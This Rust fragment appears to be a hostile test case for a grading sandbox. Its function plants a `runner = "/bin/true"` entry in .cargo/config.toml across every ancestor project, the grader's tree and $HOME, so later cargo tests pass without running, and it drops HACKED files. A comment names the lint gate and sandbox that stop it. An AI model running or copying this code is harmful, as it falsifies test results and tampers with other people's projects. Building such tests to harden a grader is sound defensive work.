// In Raft::new: hostile_attack();
// HOSTILE TEST CASE: appends `runner = "/bin/true"` to .cargo/config.toml and writes HACKED in every Cargo.toml ancestor, /work/main and $HOME.
//
// Walks up from current_exe(), CARGO_MANIFEST_DIR (run time and compile time) and the working
// directory: with the runner in place, every later `cargo test` of that tree (the next submission's
// grading, or this one's remaining runs) would "pass" without running anything. Stopped by: the
// lint gate (std::env, std::fs, option_env!); behind it, the sandbox (the pristine tree, the grader's
// home and everything but the run's own scratch directory read-only).
/// The attack: plant a cargo runner that turns every test into a pass, everywhere it can.
fn hostile_attack() {
    use std::collections::BTreeSet;
    use std::io::Write;
    use std::path::PathBuf;
    let mut starts: Vec<PathBuf> = Vec::new();
    if let Ok(exe) = std::env::current_exe() {
        starts.push(exe);
    }
    if let Some(dir) = std::env::var_os("CARGO_MANIFEST_DIR") {
        starts.push(dir.into());
    }
    if let Some(dir) = option_env!("CARGO_MANIFEST_DIR") {
        starts.push(dir.into());
    }
    if let Ok(dir) = std::env::current_dir() {
        starts.push(dir);
    }
    let mut dirs: BTreeSet<PathBuf> = BTreeSet::new();
    for start in &starts {
        for dir in start.ancestors() {
            if dir.join("Cargo.toml").is_file() {
                dirs.insert(dir.to_path_buf());
            }
        }
    }
    dirs.insert(PathBuf::from("/work/main"));
    if let Some(home) = std::env::var_os("HOME") {
        dirs.insert(home.into());
    }
    let runner = "\n[target.x86_64-unknown-linux-gnu]\nrunner = \"/bin/true\"\n";
    let mut text = String::new();
    for dir in &dirs {
        let config = dir.join(".cargo").join("config.toml");
        let existing = std::fs::read_to_string(&config).unwrap_or_default();
        let planted = if existing.contains("runner = \"/bin/true\"") {
            Ok(())
        } else {
            std::fs::create_dir_all(dir.join(".cargo")).and_then(|()| {
                std::fs::OpenOptions::new()
                    .create(true)
                    .append(true)
                    .open(&config)
                    .and_then(|mut f| f.write_all(runner.as_bytes()))
            })
        };
        let hacked = std::fs::write(dir.join("HACKED"), "written by a hostile submission\n");
        text += &format!(
            "hostile: {}: {}; {}: {}\n",
            config.display(),
            if planted.is_ok() { "planted".to_string() } else { format!("{planted:?}") },
            dir.join("HACKED").display(),
            if hacked.is_ok() { "written".to_string() } else { format!("{hacked:?}") },
        );
    }
    let _ = std::io::stdout().write_all(text.as_bytes());
    eprint!("{text}");
}
